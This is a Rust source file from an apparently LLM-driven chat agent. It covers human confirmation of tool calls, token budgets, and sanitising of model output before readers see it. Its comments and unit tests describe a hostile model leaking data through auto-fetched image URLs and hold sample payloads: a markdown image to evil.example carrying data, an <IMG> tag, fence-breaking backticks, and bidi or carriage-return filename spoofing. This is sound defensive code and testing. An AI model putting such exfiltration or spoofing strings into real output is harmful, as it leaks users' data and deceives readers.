    /// `/confirm CODE` from `asker`.
    pub(super) async fn confirm(&self, asker: &Asker, code: &str, progress: Option<&dyn Progress>) -> Answer {
        let taken = {
            let mut pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
            match pending.get(code) {
                None => Err(t!("confirm.no_such_code")),
                Some(p) if p.expires <= Instant::now() => {
                    pending.remove(code);
                    Err(t!("confirm.expired"))
                }
                Some(p) if p.state.asker.actor != asker.actor || p.state.asker.chat != asker.chat => {
                    let owner = p.state.asker.nick.clone();
                    let tool = p.call.function.name.clone();
                    drop(pending);
                    self.parts.audit.record(
                        Event::new(Kind::ToolDenied, &asker.actor, &asker.chat)
                            .tool(tool)
                            .target(code.to_owned())
                            .reason("confirmation from someone other than the asker"),
                    );
                    self.parts.denials.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    return Answer::fixed(t!("confirm.not_yours_title"), t!("confirm.not_yours", owner = owner));
                }
                Some(_) => Ok(pending.remove(code)),
            }
        };
        let pending = match taken {
            Err(text) => return Answer::fixed(t!("confirm.nothing_title"), text),
            Ok(Some(p)) => p,
            Ok(None) => return Answer::fixed(t!("confirm.nothing_title"), t!("confirm.no_such_code")),
        };
        self.save_pending().await;
        let Pending { mut state, call, args, .. } = pending;
        let Some(tool) = self.parts.tools.get(&call.function.name).cloned() else {
            return Answer::fixed(t!("confirm.nothing_title"), t!("confirm.tool_gone"));
        };
        self.parts.audit.record(
            Event::new(Kind::ToolConfirmed, &asker.actor, &asker.chat).tool(tool.name()).target(tool.target(&args)),
        );
        // The turn's clock restarts: the person may have taken minutes to confirm.
        state.deadline = Instant::now() + self.parts.settings.turn_timeout_ms.get();
        let protected = state.protected.is_some();
        let result = self.run_tool(asker, &tool, args, &mut state.remarks, protected).await;
        state.messages.push(ChatMessage::tool_result(call.id.clone(), result));
        self.drive(state, progress).await
    }

    /// `/cancel` from `asker`: drop their pending action in this chat.
    pub(super) async fn cancel(&self, asker: &Asker) -> Answer {
        let removed: Vec<Pending> = {
            let mut pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
            let codes: Vec<String> = pending
                .iter()
                .filter(|(_, p)| p.state.asker.actor == asker.actor && p.state.asker.chat == asker.chat)
                .map(|(c, _)| c.clone())
                .collect();
            codes.iter().filter_map(|c| pending.remove(c)).collect()
        };
        if removed.is_empty() {
            return Answer::fixed(t!("confirm.nothing_to_cancel_title"), t!("confirm.nothing_to_cancel"));
        }
        self.save_pending().await;
        for p in &removed {
            self.parts.audit.record(
                Event::new(Kind::ToolDenied, &asker.actor, &asker.chat)
                    .tool(p.call.function.name.clone())
                    .reason("declined by the asker"),
            );
        }
        let state = removed.into_iter().next().map(|p| p.state);
        let text = t!("confirm.cancelled").into_owned();
        match state {
            Some(s) => Answer { costly: false, ..self.finish(s, text).await },
            None => Answer::fixed(t!("confirm.cancelled_title"), text),
        }
    }

    async fn over_budget(&self, asker: &Asker) -> Option<String> {
        let (per_box, per_user) = self.parts.budget_limits;
        let day = local_time(now_ms(), self.parts.settings.utc_offset_minutes).1;
        let (total, mine) = {
            let b = self.budget.lock().unwrap_or_else(|p| p.into_inner());
            if b.day != day { (0, 0) } else { (b.total, b.users.get(&asker.actor).copied().unwrap_or(0)) }
        };
        let reason = if per_box > 0 && total >= per_box {
            t!("llm.box_budget")
        } else if per_user > 0 && mine >= per_user {
            t!("llm.user_budget")
        } else {
            return None;
        };
        self.parts.audit.record(
            Event::new(Kind::LimitHit, &asker.actor, &asker.chat)
                .reason(format!("daily token budget reached (box {total}/{per_box}, user {mine}/{per_user})")),
        );
        Some(reason.into())
    }

    /// Count `tokens` against today's budgets and `endpoint`'s month (kept in the store when
    /// the turn finishes).
    fn spend(&self, actor: &str, endpoint: &str, tokens: u64) {
        let (now, day) = local_time(now_ms(), self.parts.settings.utc_offset_minutes);
        {
            let mut b = self.budget.lock().unwrap_or_else(|p| p.into_inner());
            b.roll(day, &now[..7]);
            b.total += tokens;
            *b.users.entry(actor.to_owned()).or_default() += tokens;
            *b.endpoints.entry(endpoint.to_owned()).or_default() += tokens;
        }
        self.parts.tokens.fetch_add(tokens, std::sync::atomic::Ordering::Relaxed);
    }

    /// The endpoints that have used their monthly tokens, checked before every request.
    fn spent_endpoints(&self, llm: &crate::llm::route::Router) -> Vec<String> {
        let (now, day) = local_time(now_ms(), self.parts.settings.utc_offset_minutes);
        let mut b = self.budget.lock().unwrap_or_else(|p| p.into_inner());
        b.roll(day, &now[..7]);
        llm.endpoints()
            .iter()
            .filter(|e| e.monthly_tokens > 0 && b.endpoints.get(&e.name).copied().unwrap_or(0) >= e.monthly_tokens)
            .map(|e| e.name.clone())
            .collect()
    }

    /// This month's tokens per endpoint, for `/status`.
    pub(super) fn month_tokens(&self) -> HashMap<String, u64> {
        let (now, day) = local_time(now_ms(), self.parts.settings.utc_offset_minutes);
        let mut b = self.budget.lock().unwrap_or_else(|p| p.into_inner());
        b.roll(day, &now[..7]);
        b.endpoints.clone()
    }

    /// Today's use as kept in the store (at start).
    /// Write the pending confirmations to the store (sealed, with their expiry as wall-clock
    /// time). A failure is logged: the confirmations still work until the agent restarts.
    async fn save_pending(&self) {
        let _one_at_a_time = self.pending_saved.lock().await;
        let text = {
            let pending = self.pending.lock().unwrap_or_else(|p| p.into_inner());
            let (now, now_ms) = (Instant::now(), now_ms());
            let records: Vec<PendingRecord> = pending
                .iter()
                .filter(|(_, p)| p.expires > now)
                .map(|(code, p)| PendingRecord::of(code, p, now, now_ms))
                .collect();
            serde_json::to_string(&records).unwrap_or_default()
        };
        if let Err(e) = self.store_call(move |s| s.set_setting(PENDING_SETTING, &text)).await {
            log::warn!("cannot keep the pending confirmations: {e}; they are forgotten if the agent restarts");
        }
    }

    pub(super) fn load_budget(store: &crate::store::Store) -> Budget {
        store.setting(BUDGET_SETTING).ok().flatten().and_then(|s| serde_json::from_str(&s).ok()).unwrap_or_default()
    }
}

/// The turns of the current conversation: those after the last gap longer than `idle`, and
/// none if the newest is older than `idle`.
pub fn recent_conversation(turns: Vec<StoredTurn>, now_ms: i64, idle: i64) -> Vec<StoredTurn> {
    if turns.last().is_none_or(|t| now_ms - t.at_ms > idle) {
        return Vec::new();
    }
    let start = turns.windows(2).rposition(|w| w[1].at_ms - w[0].at_ms > idle).map_or(0, |i| i + 1);
    turns.into_iter().skip(start).collect()
}

/// A duration as people are told it, in the box's language.
fn said(d: Duration) -> String {
    let s = d.as_secs();
    if s >= 120 && s.is_multiple_of(60) {
        t!("duration.minutes", n = s / 60)
    } else if s >= 1 {
        t!("duration.seconds", n = s)
    } else {
        t!("duration.milliseconds", n = d.as_millis())
    }
    .into_owned()
}

/// A duration in English, for the model and the audit trail.
pub fn human(d: Duration) -> String {
    let s = d.as_secs();
    if s >= 120 && s.is_multiple_of(60) {
        format!("{} minutes", s / 60)
    } else if s >= 1 {
        format!("{s} seconds")
    } else {
        format!("{} ms", d.as_millis())
    }
}

/// The model's text with no image a reader's DingTalk would fetch by itself: `![…](url)` and
/// `<img …>` are made plain text. A hostile model could otherwise put what it read into an
/// image's address and have every reader's app send it out, with no click and no confirmation.
/// Links stay: they are shown, and leave only when someone chooses to open one. Characters
/// that reorder the text around them (bidi overrides and isolates, which can make `exe.txt`
/// read as `txt.exe`) are written out as their code.
pub(super) fn inert(text: &str) -> String {
    let reorders = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    if !text.contains("![")
        && !text.to_ascii_lowercase().contains("<img")
        && !text.contains(reorders)
        && !text.contains("<!--")
    {
        return text.to_owned();
    }
    // An HTML comment could hide what follows it (the agent's own notes) where HTML is rendered.
    let mut out = text.replace("![", "! [").replace("<!--", "‹!--");
    if out.contains(reorders) {
        out = out.chars().map(|c| if reorders(c) { format!("\\u{{{:x}}}", c as u32) } else { c.to_string() }).collect();
    }
    while let Some(at) = out.to_ascii_lowercase().find("<img") {
        out.replace_range(at..at + 1, "‹");
    }
    out
}

/// Where the pending confirmations are kept, so that `/confirm` works across a restart.
const PENDING_SETTING: &str = "pending-confirmations";

/// A pending confirmation as the store keeps it (sealed, like every value there).
#[derive(serde::Serialize, serde::Deserialize)]
struct PendingRecord {
    code: String,
    actor: String,
    nick: String,
    chat: String,
    conversation: String,
    group: bool,
    /// The message the turn answers (records kept before it have none).
    #[serde(default)]
    message: String,
    user_text: String,
    messages: Vec<KeptMessage>,
    queue: Vec<ToolCall>,
    steps: u32,
    notes: Vec<String>,
    #[serde(default)]
    refused: Vec<(String, usize)>,
    #[serde(default)]
    protected: Option<String>,
    call: ToolCall,
    args: Value,
    /// Wall-clock expiry (milliseconds since the epoch): a restart does not extend it.
    expires_at_ms: i64,
}

/// A message of a paused turn (pictures are not kept: after a restart the model sees the text).
#[derive(serde::Serialize, serde::Deserialize)]
struct KeptMessage {
    role: Role,
    content: Option<String>,
    tool_calls: Vec<ToolCall>,
    tool_call_id: Option<String>,
}

impl PendingRecord {
    fn of(code: &str, p: &Pending, now: Instant, now_ms: i64) -> Self {
        let s = &p.state;
        PendingRecord {
            code: code.to_owned(),
            actor: s.asker.actor.clone(),
            nick: s.asker.nick.clone(),
            chat: s.asker.chat.clone(),
            conversation: s.asker.conversation.clone(),
            group: s.asker.group,
            message: s.asker.message.clone(),
            user_text: s.user_text.clone(),
            messages: s
                .messages
                .iter()
                .map(|m| KeptMessage {
                    role: m.role,
                    content: m.content.clone(),
                    tool_calls: m.tool_calls.clone(),
                    tool_call_id: m.tool_call_id.clone(),
                })
                .collect(),
            queue: s.queue.iter().cloned().collect(),
            steps: s.steps,
            notes: s.remarks.notes.clone(),
            refused: s.remarks.refused.clone(),
            protected: s.protected.clone(),
            call: p.call.clone(),
            args: p.args.clone(),
            expires_at_ms: now_ms + p.expires.saturating_duration_since(now).as_millis() as i64,
        }
    }

    /// The pending confirmation again, if it has not expired; its turn gets a fresh deadline
    /// when confirmed, as always.
    fn pending(self, now: Instant, now_ms: i64) -> Option<(String, Pending)> {
        let left = u64::try_from(self.expires_at_ms - now_ms).ok().filter(|ms| *ms > 0)?;
        let asker = Asker {
            actor: self.actor,
            nick: self.nick,
            chat: self.chat,
            conversation: self.conversation,
            group: self.group,
            message: self.message,
        };
        let messages = self
            .messages
            .into_iter()
            .map(|m| ChatMessage {
                role: m.role,
                content: m.content,
                tool_calls: m.tool_calls,
                tool_call_id: m.tool_call_id,
                images: Vec::new(),
            })
            .collect();
        let state = TurnState {
            asker,
            user_text: self.user_text,
            messages,
            queue: self.queue.into(),
            steps: self.steps,
            deadline: now,
            remarks: Remarks { notes: self.notes, refused: self.refused },
            fallback: None,
            protected: self.protected,
            scanned: 0,
        };
        let expires = now + Duration::from_millis(left);
        Some((self.code, Pending { state, call: self.call, args: self.args, expires }))
    }
}

/// The pending confirmations the store keeps, those not expired.
pub(super) fn load_pending(store: &crate::store::Store) -> HashMap<String, Pending> {
    let records: Vec<PendingRecord> = match store.setting(PENDING_SETTING) {
        Ok(Some(text)) => serde_json::from_str(&text).unwrap_or_default(),
        Ok(None) => Vec::new(),
        Err(e) => {
            log::warn!("cannot read the pending confirmations: {e}");
            Vec::new()
        }
    };
    let (now, now_ms) = (Instant::now(), now_ms());
    let pending: HashMap<String, Pending> = records.into_iter().filter_map(|r| r.pending(now, now_ms)).collect();
    if !pending.is_empty() {
        log::info!("{} pending confirmations kept from before the restart", pending.len());
    }
    pending
}

/// An argument longer than this (characters or lines) is shown in a confirmation by its size,
/// sha256 and first lines; `/show CODE` shows it whole.
const SHOWN_CHARS: usize = 800;
const SHOWN_LINES: usize = 15;
/// Lines of a long argument a confirmation shows.
const HEAD_LINES: usize = 8;
/// Most of one argument `/show` puts in chat (one message holds about 14 KB): what lies beyond
/// is named by its size, never sent in a hundred messages.
const SHOW_MAX_BYTES: usize = 10 * 1024;

/// What a pending call will do: its target, then every argument as it will be executed. Each
/// value sits in a code block whose fence is longer than any run of backticks inside, so no
/// content can change the message's formatting, and links and mentions in it are not live.
fn shown(target: &str, args: &Value, code: &str, whole: bool) -> String {
    let mut short = vec![format!("→ {}", visible(target))];
    let mut long = String::new();
    let empty = serde_json::Map::new();
    let map = args.as_object().unwrap_or(&empty);
    for (name, value) in map {
        let text = visible(&match value {
            Value::String(s) => s.clone(),
            other => serde_json::to_string_pretty(other).unwrap_or_default(),
        });
        let (chars, lines) = (text.chars().count(), text.lines().count());
        if !text.contains('\n') && chars <= 120 {
            short.push(format!("{name}: {text}"));
        } else if whole && text.len() > SHOW_MAX_BYTES {
            let mut end = SHOW_MAX_BYTES;
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            let label = t!(
                "confirm.argument_cut",
                name = name,
                bytes = text.len(),
                shown = end,
                sha256 = sha256_hex(text.as_bytes())
            );
            long.push_str(&format!("\n{label}\n{}\n", super::fenced(&text[..end])));
        } else if whole || (chars <= SHOWN_CHARS && lines <= SHOWN_LINES) {
            let label = t!("confirm.argument", name = name, bytes = text.len());
            long.push_str(&format!("\n{label}\n{}\n", super::fenced(&text)));
        } else {
            let head: String =
                text.lines().take(HEAD_LINES).collect::<Vec<_>>().join("\n").chars().take(SHOWN_CHARS).collect();
            let label = t!(
                "confirm.argument_long",
                name = name,
                bytes = text.len(),
                lines = lines,
                sha256 = sha256_hex(text.as_bytes()),
                shown = HEAD_LINES,
                code = code
            );
            long.push_str(&format!("\n{label}\n{}\n", super::fenced(&head)));
        }
    }
    format!("{}\n{long}", super::fenced(&short.join("\n")))
}

/// `text` with every character that could move or hide what is shown written out as `\u{…}`:
/// control characters other than a line break and a tab (a carriage return could forge a line),
/// Unicode line and paragraph separators, and the marks that reorder or hide text (bidi
/// overrides, zero-width characters).
fn visible(text: &str) -> String {
    text.chars()
        .map(|c| {
            let hidden = (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
            if hidden { format!("\\u{{{:x}}}", c as u32) } else { c.to_string() }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The code blocks of a Markdown text: (fence, content) in order.
    fn blocks(text: &str) -> Vec<(String, String)> {
        let mut out = Vec::new();
        let mut lines = text.lines();
        while let Some(line) = lines.next() {
            if line.starts_with("```") && line.chars().all(|c| c == '`') {
                let body: Vec<&str> = lines.by_ref().take_while(|l| *l != line).collect();
                out.push((line.to_owned(), body.join("\n")));
            }
        }
        out
    }

    #[test]
    fn a_confirmation_shows_every_argument_and_no_content_breaks_out() {
        let hostile = "line one\n```\n**bold** [click](https://evil.example) @all\n````` done";
        let args = serde_json::json!({"path": "share/notes.txt", "content": hostile, "labels": ["a", "b"]});
        let text = shown("share/notes.txt", &args, "1234", false);
        let found = blocks(&text);
        // The content sits whole inside one block whose fence outruns its longest backtick run.
        let content = found.iter().find(|(_, body)| body.contains("**bold**")).expect("content shown");
        assert_eq!(content.1, hostile);
        assert!(content.0.len() > 5, "fence {:?}", content.0);
        assert!(found[0].1.contains("→ share/notes.txt") && found[0].1.contains("path: share/notes.txt"));
        assert!(text.contains("labels"), "{text}");
        // Nothing outside a block comes from the content.
        let mut outside = text.clone();
        for (fence, body) in &found {
            outside = outside.replacen(&format!("{fence}\n{body}\n{fence}"), "", 1);
        }
        assert!(!outside.contains("evil") && !outside.contains("@all") && !outside.contains("**bold**"), "{outside}");
    }

    #[test]
    fn what_the_model_left_open_is_closed_before_the_agent_speaks() {
        assert_eq!(closed("plain"), "plain");
        assert_eq!(closed("```\ncode\n```\nafter"), "```\ncode\n```\nafter");
        assert_eq!(
            closed("text\n````rust\nlet a = 1;\n```\nstill code"),
            "text\n````rust\nlet a = 1;\n```\nstill code\n````"
        );
        assert_eq!(closed("a <!-- hidden"), "a <!-- hidden -->");
        assert_eq!(closed("a <!-- x --> b"), "a <!-- x --> b");
        assert!(!inert("x <!-- y").contains("<!--"));
    }

    #[test]
    fn every_call_that_did_not_run_is_counted_and_the_same_line_said_once() {
        crate::i18n::tests::in_language(crate::i18n::Language::ZhCn, || {
            let mut r = Remarks::default();
            assert_eq!(r.said(), "");
            for _ in 0..20 {
                r.add(t!("refused.no_tool").into_owned(), 1);
            }
            r.refused("caldav_list", "不是你的日历");
            r.refused("caldav_list", "不是你的日历");
            let said = r.said();
            assert!(said.contains("有 22 个没有完成"), "{said}");
            assert!(
                said.contains("不存在的工具（20 次）") && said.contains("- `caldav_list`：不是你的日历（2 次）"),
                "{said}"
            );
            for i in 0..10 {
                r.refused(&format!("tool_{i}"), "x");
            }
            let said = r.said();
            assert!(said.contains("有 32 个没有完成") && said.contains("另有 4 类未列出"), "{said}");
        });
    }

    #[test]
    fn no_image_in_an_answer_is_fetched_by_the_readers() {
        let hostile = "Done. ![](https://evil.example/?d=Q3%20revenue) ![x][r]\n[r]: https://evil.example/r <IMG src=https://evil.example/i> [the report](https://intranet/q3)";
        let shown = inert(hostile);
        assert!(!shown.contains("![") && !shown.to_ascii_lowercase().contains("<img"), "{shown}");
        assert!(shown.contains("[the report](https://intranet/q3)"), "links stay: {shown}");
        assert_eq!(inert("plain text, no pictures"), "plain text, no pictures");
        assert_eq!(inert("报告\u{202e}fdp.exe"), "报告\\u{202e}fdp.exe");
        assert_eq!(inert("עברית"), "עברית", "right-to-left text itself stays");
    }

    #[test]
    fn characters_that_move_or_hide_text_are_written_out() {
        let forged = "share/a.txt\r→ share/harmless.txt\u{202e}txt.exe\u{2028}x\u{200b}y";
        let args = serde_json::json!({"path": forged, "note": "tab\tand\nline"});
        let text = shown(forged, &args, "1", false);
        for hidden in ['\r', '\u{202e}', '\u{2028}', '\u{200b}'] {
            assert!(!text.contains(hidden), "{hidden:?} left in {text:?}");
        }
        assert!(text.contains("\\u{d}") && text.contains("\\u{202e}"), "{text}");
        assert!(text.contains("tab\tand\nline"), "tabs and line breaks stay");
    }

    #[test]
    fn show_puts_at_most_one_message_of_an_argument_in_chat() {
        let huge = "y".repeat(2 * 1024 * 1024);
        let args = serde_json::json!({"path": "share/huge.txt", "content": huge});
        let text =
            crate::i18n::tests::in_language(crate::i18n::Language::ZhCn, || shown("share/huge.txt", &args, "1", true));
        assert!(text.len() < 12 * 1024, "{} bytes", text.len());
        assert!(text.contains("请不要确认") && text.contains(&sha256_hex(huge.as_bytes())), "{}", &text[..300]);
    }

    #[test]
    fn long_content_is_shown_by_size_hash_and_head_and_whole_on_request() {
        let long: String = (1..=200).map(|i| format!("row {i}\n")).collect();
        let args = serde_json::json!({"path": "share/big.csv", "content": long});
        let text = crate::i18n::tests::in_language(crate::i18n::Language::ZhCn, || {
            shown("share/big.csv", &args, "4321", false)
        });
        let sha = sha256_hex(long.as_bytes());
        assert!(text.contains(&sha) && text.contains("/查看 4321") && text.contains("200 行"), "{text}");
        assert!(text.contains("row 8\n") && !text.contains("row 9\n"), "the first lines only: {text}");
        let whole = shown("share/big.csv", &args, "4321", true);
        assert!(whole.contains("row 200"), "the whole of it on /show");
    }

    fn t(at_ms: i64) -> StoredTurn {
        StoredTurn { role: TurnRole::User, text: at_ms.to_string(), at_ms }
    }

    #[test]
    fn an_idle_gap_starts_a_new_conversation() {
        let at = |v: Vec<StoredTurn>| v.iter().map(|t| t.at_ms).collect::<Vec<_>>();
        assert_eq!(at(recent_conversation(vec![t(0), t(10), t(100), t(105)], 110, 50)), vec![100, 105]);
        assert_eq!(at(recent_conversation(vec![t(0), t(10)], 20, 50)), vec![0, 10]);
        assert!(recent_conversation(vec![t(0), t(10)], 100, 50).is_empty());
        assert!(recent_conversation(Vec::new(), 100, 50).is_empty());
        assert_eq!(clip("abcdef", 3), "abc\n…(cut: 3 more bytes not shown)");
        assert_eq!(clip("ab", 3), "ab");
    }
}
